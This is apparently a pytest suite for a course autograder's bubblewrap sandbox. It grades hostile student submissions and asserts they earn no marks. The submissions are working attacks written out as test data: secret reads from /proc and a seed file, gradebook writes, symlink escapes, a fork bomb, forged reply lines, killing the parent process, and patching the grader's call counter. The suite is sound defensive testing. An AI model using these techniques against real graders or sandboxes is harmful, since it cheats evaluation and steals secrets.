"""The grader against hostile submissions: each case is a submission file
in one class folder, graded by the command line's grader, and each
asserts that the grade is not raised, that nothing was written outside
the sandbox, that no secret was read and that no process is left.

Every hostile ``trees`` submission carries a right ``minimax`` and
returns its value only when its attack worked (else -1), so "the grade is
not raised" is "minimax scores 0"; the honest control case, the same
code with an attack that always "works", scores full marks, so the
assertion can fail.  On the grader before bubblewrap (commit 0c6f73c,
these cases graded by it) the attacks of findings 1-3 raised the grade:
the blocker bypass, the engine's source read from disk, the teacher's
HOME read from /proc, the seed file, the writes to the course and the
gradebook, the socket to 127.0.0.1 and the symlink out each earned marks
(4/4, the symlink 1/4), the forged line on the reply channel was taken as
the answer (1/4), the forks and the sleeping child were still running
afterwards, and killing the parent kills the grader itself (not run
there).  Finding 5's tests are in tests/test_grading.py.

Under bubblewrap the suite grades every case; where bubblewrap cannot
run it tests only that ``--require-sandbox`` refuses (the rest is
skipped with the reason), except in CI (``GAMETREE_REQUIRE_SANDBOX=1``),
where a missing bubblewrap fails.
"""

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from gametree.grading import sandbox
from gametree.grading.assignments import SEED_FILE_VARIABLE, SEED_VARIABLE
from gametree.grading.grader import grade_file
from gametree.grading.sandbox import Limits, isolation

REPO = Path(__file__).resolve().parent.parent
SECRET = "teacher-secret-4f1c"
HOSTILE = Limits(seconds=1.5, load_seconds=5, memory_mb=512)
REQUIRED = os.environ.get(sandbox.REQUIRE_VARIABLE) == "1"
SANDBOXED = isolation(say=False).sandboxed

needs_sandbox = pytest.mark.skipif(
    not SANDBOXED and not REQUIRED,
    reason=f"bubblewrap cannot run here ({isolation(say=False).reason}): only the refusal of "
           f"--require-sandbox is tested")

PRELUDE = '''
import os, sys, signal, socket, time

def right(leaves, branching):
    def value(start, size, maximise):
        if size == 1:
            return leaves[start]
        step = size // branching
        values = [value(start + i * step, step, not maximise) for i in range(branching)]
        return max(values) if maximise else min(values)
    return value(0, len(leaves), True)

def minimax(leaves, branching):
    worked = False
    try:
        worked = attack()
    except BaseException:
        pass
    return right(leaves, branching) if worked else -1
'''

CASES = {
    "honest control": '''
def attack():
    return True
''',
    "blocker bypass": '''
import importlib

def attack():
    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ not in ("Blocker", "Refusal")]
    search = importlib.import_module("gametree.search")
    return search.minimax([1, 2], 2) == 2
''',
    "engine source on disk": '''
def attack():
    for root in ({package!r}, "/opt/gametree-sandbox/gametree", "/"):
        for folder, _, files in os.walk(root):
            if "search.py" in files and "gametree" in folder:
                if "def alpha_beta" in open(os.path.join(folder, "search.py")).read():
                    return True
            if folder.count("/") > 6:
                break
    return False
''',
    "proc environ and cmdline": '''
def attack():
    found = ""
    for pid in os.listdir("/proc"):
        for name in ("environ", "cmdline"):
            try:
                found += open(f"/proc/{{pid}}/{{name}}", "rb").read().decode(errors="replace")
            except OSError:
                pass
    return {secret!r} in found or "GAMETREE_GRADING" in found or "HOME=" + {home!r} in found
''',
    "seed file": '''
def attack():
    for path in ({seed_file!r}, os.path.expanduser("~/.gametree/grading-seed"),
                 "/root/.gametree/grading-seed"):
        try:
            if {secret!r} in open(path).read():
                return True
        except OSError:
            pass
    return False
''',
    "write the course and the gradebook": '''
def attack():
    done = False
    for path in ({gradebook!r}, {course!r} + "/planted.txt", {outside!r}):
        try:
            with open(path, "a") as file:
                file.write("planted")
            done = True
        except OSError:
            pass
    return done
''',
    "symlinks out of its folder": '''
def attack():
    os.symlink({course!r}, "course-link")
    os.symlink("/", "root-link")
    try:
        open("course-link/planted-by-link.txt", "w").write("planted")
        return True
    except OSError:
        pass
    try:
        return "gradebook" in open("root-link" + {gradebook!r}).read()
    except OSError:
        return False
''',
    "1,000 forks": '''
FORKED = []

def attack():
    if FORKED:                      # once a submission
        return False
    FORKED.append(True)
    for _ in range(1000):
        try:
            if os.fork() == 0:
                os.execv("/usr/bin/sleep", ["sleep", {marker!r}])
        except OSError:
            break
    return False
''',
    "a child that sleeps past the grading": '''
def attack():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/usr/bin/sleep", ["sleep", {marker!r}])
        os._exit(0)
    return False
''',
    "ignoring SIGTERM": '''
signal.signal(signal.SIGTERM, signal.SIG_IGN)

def attack():
    while True:
        time.sleep(0.1)
''',
    "a 2 GB allocation": '''
def attack():
    block = bytearray(2 * 1024 ** 3)
    return len(block) > 0
''',
    "a socket to 127.0.0.1": '''
def attack():
    connection = socket.create_connection(("127.0.0.1", {port}), timeout=1)
    connection.sendall(b"stolen")
    return True
''',
    "a forged line on every open fd": '''
import json

def attack():
    for number in range(4):
        line = json.dumps({{"id": number, "ok": True, "answer": 3, "printed": "",
                            "event": "loaded", "errors": [], "defined": ["minimax"]}})
        for fd in range(64):
            try:
                os.write(fd, (line + "\\n").encode())
            except OSError:
                pass
    return False
''',
    "reading fd 0 ahead of the worker": '''
def attack():
    for fd in range(64):
        try:
            os.set_blocking(fd, False)
            os.read(fd, 1 << 16)
        except OSError:
            pass
    return False
''',
    "killing its parent": '''
def attack():
    os.kill(os.getppid(), signal.SIGKILL)
    return False
''',
    "100 MB of output": '''
def attack():
    chunk = b"x" * (1 << 20)
    for _ in range(100):
        try:
            os.write(1, chunk)
        except OSError:
            pass
    return False
''',
}

PATCH_THE_PROXY = '''
import math
from gametree import MAX


def minimax_move(game, state, depth, evaluate):
    real = type(game)

    def quiet_play(self, s, m):          # play without the grader: the record stays empty
        from gametree.games.tictactoe import TicTacToe
        return TicTacToe().play(s, m)

    real.play = quiet_play
    game.counted = {"play": 10_000}      # and claim the calls were made
    game.plays = [("a", "b")] * 10       # the old recorder's list

    def value(s, d):
        if game.is_over(s):
            return game.score(s)
        if game.to_move(s) == MAX:
            if d == 0:
                return evaluate(s)
            return max(value(game.play(s, m), d - 1) for m in game.moves(s))
        return min(value(game.play(s, m), d) for m in game.moves(s))

    best, best_value = None, -math.inf
    for move in game.moves(state):
        v = value(game.play(state, move), depth - 1)
        if v > best_value:
            best, best_value = move, v
    return best
'''


def marked_processes(marker: str) -> list[int]:
    """The processes on this machine whose command line holds ``marker``."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            if marker in Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace"):
                found.append(int(pid))
        except (OSError, ValueError):
            pass
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """One class folder (a course with its gradebook, the seed file, the
    submissions), every hostile case graded once; what each case did."""
    if not SANDBOXED:
        pytest.fail("bubblewrap is required here (GAMETREE_REQUIRE_SANDBOX=1) and cannot run: "
                    f"{isolation(say=False).reason}")
    root = tmp_path_factory.mktemp("class")
    course = root / "course"
    (course / "submitted").mkdir(parents=True)
    gradebook = course / "gradebook.db"
    gradebook.write_text("gradebook")
    seed_file = root / "grading-seed"
    seed_file.write_text(SECRET + "\n")
    outside = root / "planted-outside.txt"
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0)
    marker = f"3600.{os.getpid()}{int(time.time()) % 10000}"
    values = {"package": str(REPO / "gametree"), "secret": SECRET, "home": str(Path.home()), "seed_file": str(seed_file),
              "gradebook": str(gradebook), "course": str(course), "outside": str(outside),
              "marker": marker, "port": listener.getsockname()[1]}
    before = {path: path.read_bytes() for path in course.rglob("*") if path.is_file()}
    saved = {name: os.environ.get(name) for name in (SEED_VARIABLE, SEED_FILE_VARIABLE)}
    os.environ[SEED_VARIABLE] = SECRET        # in the grader's environment, as a teacher's shell has it
    os.environ[SEED_FILE_VARIABLE] = str(seed_file)
    reports, seconds = {}, {}
    try:
        for name, attack in CASES.items():
            path = course / "submitted" / (name.replace(" ", "-").replace(",", "") + ".py")
            path.write_text(PRELUDE + attack.format(**values))
            start = time.monotonic()
            reports[name] = grade_file("trees", path, parts=["minimax"], limits=HOSTILE,
                                       use_environment=False)
            seconds[name] = time.monotonic() - start
        path = course / "submitted" / "patching-the-proxy.py"
        path.write_text(PATCH_THE_PROXY)
        reports["patching the proxy"] = grade_file("ghosts", path, parts=["minimax_move"],
                                                   limits=HOSTILE, use_environment=False)
    finally:
        for variable, value in saved.items():
            if value is None:
                os.environ.pop(variable, None)
            else:
                os.environ[variable] = value
    try:
        connection, _ = listener.accept()
        connected = True
        connection.close()
    except (BlockingIOError, TimeoutError):
        connected = False
    listener.close()
    after = {path: path.read_bytes() for path in course.rglob("*") if path.is_file()
             and path.parent.name != "submitted"}
    unchanged = {path: data for path, data in before.items() if path.parent.name != "submitted"}
    return {"reports": reports, "seconds": seconds, "changed": after != unchanged,
            "outside": outside.exists(), "connected": connected, "marker": marker}


@needs_sandbox
def test_the_control_case_gets_full_marks(graded):
    report = graded["reports"]["honest control"]
    assert report.score == report.total == 4, report.lines()


@needs_sandbox
@pytest.mark.parametrize("case", [name for name in CASES if name != "honest control"])
def test_a_hostile_submission_raises_no_grade(graded, case):
    report = graded["reports"][case]
    assert report.score == 0, report.lines()
    assert all(verdict.message for verdict in report.verdicts)


@needs_sandbox
def test_nothing_is_written_outside_the_sandbox_and_nothing_is_left_running(graded):
    assert not graded["changed"], "the course folder or its gradebook changed"
    assert not graded["outside"], "a file appeared outside the sandbox"
    assert not graded["connected"], "the sandbox reached 127.0.0.1"
    assert marked_processes(graded["marker"]) == []


@needs_sandbox
def test_each_attack_fails_its_tests_with_a_sentence(graded):
    reports = graded["reports"]
    first = {case: reports[case].verdicts[0].message for case in reports}
    assert "forged or garbled line" in first["a forged line on every open fd"]
    assert "did not finish within 1.5 s" in first["ignoring SIGTERM"]
    assert "wrote more than 1,000,000 bytes of output" in first["100 MB of output"]
    assert first["killing its parent"].startswith("returned -1")     # the signal did nothing
    proxy = reports["patching the proxy"]
    assert proxy.score == 0 and all(v.mistake for v in proxy.verdicts), proxy.lines()
    board = next(v for v in proxy.verdicts if "board" in v.case.label)
    assert "the reference plays" in board.message or "you stopped after 0 plays" in board.message \
        or "forged or garbled" in board.message, board.message


def test_require_sandbox_refuses_where_bubblewrap_cannot_run(tmp_path, monkeypatch, capsys):
    """Without bubblewrap, --require-sandbox exits 2 with one line; without
    the flag the grade goes on and says once, in one line, what is not protected."""
    from gametree.cli import main

    path = tmp_path / "mine.py"
    path.write_text("def minimax(leaves, branching):\n    return max(leaves)\n")
    monkeypatch.setattr(sandbox, "_ISOLATION", [])
    monkeypatch.setenv(sandbox.BWRAP_VARIABLE, str(tmp_path / "no-bwrap"))
    assert main(["grade", "--require-sandbox", "trees", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "grading refused: the sandbox is required" in err
    monkeypatch.setenv(sandbox.REQUIRE_VARIABLE, "1")
    assert main(["grade", "trees", str(path)]) == 2
    assert "grading refused" in capsys.readouterr().err
    monkeypatch.delenv(sandbox.REQUIRE_VARIABLE)
    monkeypatch.setattr(sandbox, "_ISOLATION", [])
    assert main(["grade", "trees", str(path)]) == 0
    captured = capsys.readouterr()
    assert captured.err.count("\n") == 1 and "sandbox: none" in captured.err
    assert "can read and write the teacher's files" in captured.err
    assert "without a sandbox" in captured.out


def test_the_course_setting_refuses_where_bubblewrap_cannot_run(tmp_path, monkeypatch):
    """The course's nbgrader_config.py sets Regrade.require_sandbox: without
    bubblewrap, regrading a submission raises instead of running it."""
    import nbformat

    from gametree.grading.course import Regrade
    from gametree.grading.sandbox import SandboxUnavailable

    assert "c.Regrade.require_sandbox = True" in (REPO / "assignments" / "nbgrader_config.py").read_text()
    monkeypatch.setattr(sandbox, "_ISOLATION", [])
    monkeypatch.setenv(sandbox.BWRAP_VARIABLE, str(tmp_path / "no-bwrap"))
    notebook = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_code_cell("def minimax(leaves, branching):\n    return max(leaves)\n"),
        nbformat.v4.new_code_cell('autograde("trees", "minimax", points=4)')])
    with pytest.raises(SandboxUnavailable, match="bubblewrap cannot run here"):
        Regrade(require_sandbox=True).preprocess(notebook, {})


def test_in_ci_a_missing_bubblewrap_fails():
    if REQUIRED:
        assert SANDBOXED, f"bubblewrap is required in CI and cannot run: {isolation(say=False).reason}"


def test_the_sandbox_sees_an_empty_environment_and_only_its_own_processes():
    """What the student's process sees of processes: bubblewrap's own (PID
    1) and itself, with nothing of the grader's environment."""
    if not SANDBOXED:
        pytest.skip("bubblewrap cannot run here")
    probe = ("import json, os\nprint(json.dumps([sorted(p for p in os.listdir('/proc') if p.isdigit()), "
             "open('/proc/1/environ').read(), sorted(os.environ), os.getuid(), os.listdir('/'), "
             "os.listdir('/root') if os.path.isdir('/root') else [], "
             f"os.path.exists({str(REPO / 'gametree')!r}), os.path.exists({str(Path.home())!r} + '/.gametree')]))")
    python = os.path.realpath(sys.executable)
    command = sandbox._bwrap_command(sandbox._bwrap() or "bwrap", [python, "-I", "-S", "-c", probe])
    done = subprocess.run(command, env={}, capture_output=True, text=True, timeout=60,
                          start_new_session=True)
    assert done.returncode == 0, done.stderr
    processes, environ, names, uid, top, home, package, seeds = json.loads(done.stdout)
    assert processes == ["1", "2"] and environ == "" and uid == 65534
    assert names == ["HOME", "LANG", "PATH", "PWD", "TMPDIR"]
    assert home in ([], [".pyenv"]) and not package and not seeds   # the interpreter's prefix only
